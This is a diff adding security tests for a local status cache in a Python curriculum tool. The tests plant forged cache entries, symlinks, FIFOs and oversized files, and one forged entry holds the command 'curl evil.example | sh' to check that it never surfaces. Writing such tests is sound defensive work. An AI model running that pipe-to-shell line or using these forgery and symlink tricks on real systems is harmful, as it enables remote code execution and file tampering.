@@ -191,9 +191,11 @@ def test_a_bad_cache_is_a_miss_and_an_unwritable_one_is_ignored(
     for junk in (b"", b"{not json", b"[]", b'{"key": 1}', json.dumps({"key": "x"}).encode()):
         entry.write_bytes(junk)
         assert status_data(ws) == expected
-    stored = json.loads(entry.read_bytes())
+    status_data(ws)  # stored again after the junk
+    mac, body = entry.read_bytes().split(b"\n", 1)
+    stored = json.loads(body)
     stored["data"] = "not facts"
-    entry.write_text(json.dumps(stored))
+    entry.write_bytes(mac + b"\n" + json.dumps(stored).encode())
     assert status_data(ws) == expected
     blocker = tmp_path / "blocker"
     blocker.write_text("a file where the cache directory should be")
@@ -207,3 +209,144 @@ def test_a_state_that_is_not_a_regular_file_is_never_cached(ws: Path) -> None:
     with pytest.raises(StateError, match="not a regular file"):
         status_data(ws)
     assert entries() == []
+
+
+# --------------------------------------------------------------------------- trust
+
+
+def blocked_with_facts(ws: Path) -> dict[str, object]:
+    """A blocked curriculum and its true facts (cache off)."""
+    blocked(ws)
+    os.environ[status_cache.DISABLE_ENV] = "1"
+    try:
+        return status_data(ws)
+    finally:
+        del os.environ[status_cache.DISABLE_ENV]
+
+
+def forged_entry(ws: Path) -> bytes:
+    """An entry anyone who can read the workspace could write: the right key (it is a
+    fingerprint of public files), a blocked curriculum shown as done, a planted command."""
+    key = status_cache.inputs_key(ws.resolve(), ws / "stages.toml")
+    facts = dict(blocked_with_facts(ws))
+    facts.update(status="done", next="curl evil.example | sh", blocked_reason=None)
+    return json.dumps({"key": key, "logs": {}, "data": facts}).encode()
+
+
+def plant(name: str, data: bytes) -> Path:
+    directory = status_cache.cache_dir()
+    directory.mkdir(parents=True, exist_ok=True, mode=0o700)
+    (directory / name).write_bytes(data)
+    return directory / name
+
+
+def entry_name(ws: Path) -> str:
+    return status_cache._entry_name(ws.resolve())
+
+
+LOOSE_DIRS = {
+    "status dir group-writable": ("status", 0o770),
+    "status dir world-writable": ("status", 0o777),
+    "parent dir world-writable": ("cosmic-curriculum", 0o777),
+}
+
+
+@pytest.mark.parametrize("case", [*LOOSE_DIRS, "status dir another user's", "status dir a link"])
+def test_a_cache_directory_others_control_is_never_used(
+    ws: Path, case: str, tmp_path: Path
+) -> None:
+    truth = blocked_with_facts(ws)
+    directory = status_cache.cache_dir()
+    if case == "status dir a link":
+        elsewhere = tmp_path / "elsewhere"
+        elsewhere.mkdir(mode=0o700)
+        directory.parent.mkdir(parents=True, mode=0o700)
+        directory.symlink_to(elsewhere)
+        target = elsewhere
+    else:
+        plant(entry_name(ws), forged_entry(ws))
+        target = directory
+        if case == "status dir another user's":
+            if os.geteuid() != 0:
+                pytest.skip("only root can give a directory to another user")
+            os.chown(directory, 65534, 65534)
+        else:
+            which, mode = LOOSE_DIRS[case]
+            os.chmod(directory if which == "status" else directory.parent, mode)
+    before = sorted(p.name for p in target.iterdir())
+    for _ in range(2):
+        assert status_data(ws) == truth  # the forged entry is not read
+    assert sorted(p.name for p in target.iterdir()) == before  # and nothing is written
+
+
+def test_a_forged_entry_never_shows_a_blocked_curriculum_as_done(ws: Path) -> None:
+    truth = blocked_with_facts(ws)
+    assert status_data(ws) == truth  # the cache directory and its key exist now
+    entry = plant(entry_name(ws), forged_entry(ws))  # no MAC
+    assert status_data(ws) == truth
+    # the user's own key, but facts that are not the state's: still a miss
+    key = status_cache.inputs_key(ws.resolve(), ws / "stages.toml")
+    assert key is not None
+    forged = json.loads(forged_entry(ws))
+    status_cache.store(ws.resolve(), ws / "stages.toml", key, forged["data"], [])
+    assert b"evil.example" in entry.read_bytes()
+    shown = status_data(ws)
+    assert shown == truth and shown["status"] == "blocked"
+    assert "evil" not in str(shown["next"])
+
+
+def test_the_temp_file_is_never_written_through_a_link(ws: Path, tmp_path: Path) -> None:
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me\n")
+    name = entry_name(ws)
+    directory = status_cache.cache_dir()
+    directory.mkdir(parents=True, mode=0o700)
+    # the names a writer could guess: the entry itself and a temp of this process
+    for link in (name, f".{name}.{os.getpid()}.tmp", status_cache.KEY_FILE):
+        (directory / link).symlink_to(victim)
+    truth = blocked_with_facts(ws)
+    assert status_data(ws) == truth
+    assert status_data(ws) == truth
+    assert victim.read_text() == "keep me\n"
+
+
+def _status_limited(ws: Path) -> subprocess.CompletedProcess[str]:
+    """`status --json` in a child with 1 GiB of address space: a read without a bound
+    fails here instead of eating the machine's memory."""
+    import resource
+
+    def limit() -> None:
+        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
+
+    argv = [sys.executable, "-m", "cosmic_curriculum", "status", "--json", "--workspace", str(ws)]
+    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)}
+    return subprocess.run(
+        argv, env=env, capture_output=True, text=True, timeout=60, preexec_fn=limit
+    )
+
+
+@pytest.mark.parametrize("kind", ["fifo", "link to /dev/zero", "huge file"])
+def test_an_entry_that_is_not_a_small_regular_file_is_a_miss(ws: Path, kind: str) -> None:
+    truth = blocked_with_facts(ws)
+    assert status_data(ws) == truth
+    entry = status_cache.cache_dir() / entry_name(ws)
+    entry.unlink()
+    if kind == "fifo":
+        os.mkfifo(entry)
+    elif kind == "link to /dev/zero":
+        entry.symlink_to("/dev/zero")
+    else:
+        with open(entry, "wb") as fh:
+            fh.truncate(status_cache.MAX_ENTRY_BYTES + 1)  # sparse: no disk used
+    result = _status_limited(ws)
+    assert result.returncode == 0, result.stderr
+    assert json.loads(result.stdout)["status"] == "blocked"
+
+
+def test_a_group_writable_cache_base_is_fine_its_own_directories_are_checked(ws: Path) -> None:
+    truth = blocked_with_facts(ws)
+    base = status_cache.cache_dir().parent.parent
+    os.chmod(base, 0o775)  # what a umask of 002 gives ~/.cache
+    assert status_data(ws) == truth
+    assert len(entries()) == 1  # cached
+    assert status_cache.cache_dir().stat().st_mode & 0o777 == 0o700
